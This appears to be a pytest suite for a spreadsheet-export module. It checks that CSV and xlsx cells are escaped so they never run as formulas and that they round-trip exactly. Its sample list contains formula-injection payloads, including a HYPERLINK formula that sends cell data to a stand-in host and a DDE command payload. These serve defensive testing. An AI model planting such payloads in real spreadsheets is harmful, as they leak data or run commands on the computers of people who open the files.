"""reports.cells: spreadsheet cells that never run as formulas and come back byte for byte."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook as OpenpyxlWorkbook

from reports.cells import CSV_TRIGGERS, csv_cell, csv_uncell, xlsx_cell, xlsx_legal, xlsx_stored, xlsx_text, xlsx_untext
from reports.xlsx_stream import Workbook
from tests.security import hostile

pytestmark = pytest.mark.unit

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "'=1+1",
    "'",
    "''",
    "#N/A",
    "#DIV/0!",
    "_x000D_",
    "_x005F_x000D_",
    "a_x0041_b__x0042_",
    " 前后空格 ",
    "第一行\r\n第二行\r第三行\n",
    "1",
    "1.0",
    "2024-02-19",
    "TRUE",
    "\u202e逆序",
    "👨\u200d👩\u200d👧",
    "\x85\x9b\x7f",
]
# XML 1.0 characters (what xlsx can carry) — everything but most C0 controls, surrogates, U+FFFE/U+FFFF.
LEGAL = st.characters(blacklist_categories=("Cs",)).filter(lambda ch: xlsx_legal(ch) == ch)
TEXT = st.one_of(
    st.text(LEGAL, max_size=30),
    st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "_x", "000D", "_", "x", "中"]), max_size=12).map(
        "".join
    ),
)


@given(st.text())
def test_csv_cell_round_trips_every_string(text):
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", NASTY)
def test_csv_cells_through_a_real_csv(text):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([csv_cell(text), "x"])
    (read,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert csv_uncell(read[0]) == text
    if text.startswith(CSV_TRIGGERS):
        assert read[0] == "'" + text


@given(st.text())
def test_xlsx_stored_round_trips_every_legal_string(text):
    assert xlsx_untext(xlsx_stored(text)) == xlsx_legal(text)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", xlsx_stored(text))


def test_excel_escapes_are_decoded_and_unstorable_ones_replaced():
    assert xlsx_untext("a_x000D_b_x000a_c") == "a\rb\nc"
    assert xlsx_untext("_x001B_") == "\x1b"  # kept: the text gate judges it
    assert xlsx_untext("_x0000__xD800__xFFFF_") == "\ufffd\ufffd\ufffd"
    assert xlsx_untext("_x005F_x000D_") == "_x000D_"


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _write(path, values) -> None:
    wb = OpenpyxlWorkbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([xlsx_cell(ws, v) for v in values])
    wb.save(path)


def _read(path) -> tuple:
    with Workbook(path) as wb:
        ((_, values),) = list(wb.rows(wb.sheets[0]))
    return values


def test_xlsx_text_is_never_a_formula(tmp_path):
    path = tmp_path / "nasty.xlsx"
    _write(path, NASTY)
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == len(NASTY)
    assert ' t="e"' not in xml  # "#N/A" is text, not an error value
    assert _read(path) == tuple(NASTY)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TEXT.filter(bool), min_size=1, max_size=8))
def test_xlsx_round_trips_byte_for_byte(tmp_path, values):
    path = tmp_path / "round.xlsx"
    _write(path, values)
    assert "<f>" not in _sheet_xml(path)
    assert _read(path) == tuple(values)


def test_illegal_characters_become_visible_instead_of_failing(tmp_path):
    values = ["标题\x1b[31m", "a\x00b", "\x08\x0b\x0c"]
    path = tmp_path / "controls.xlsx"
    _write(path, values)  # openpyxl alone raises IllegalCharacterError here
    assert _read(path) == ("标题\ufffd[31m", "a\ufffdb", "\ufffd\ufffd\ufffd")


def test_xlsx_text_stores_strings_only(tmp_path):
    wb = OpenpyxlWorkbook(write_only=True)
    ws = wb.create_sheet("s")
    cell = xlsx_text(ws, "=1+1")
    assert cell.data_type == "s" and cell.value == "=1+1"
    assert xlsx_cell(ws, "").value is None and xlsx_cell(ws, 3).value == 3


def test_excel_written_escapes_read_back(tmp_path):
    xml = hostile.sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>第一行_x000D_第二行</t></is></c></row>')
    path = hostile.workbook(tmp_path / "excel.xlsx", xml)
    assert _read(path) == ("第一行\r第二行",)
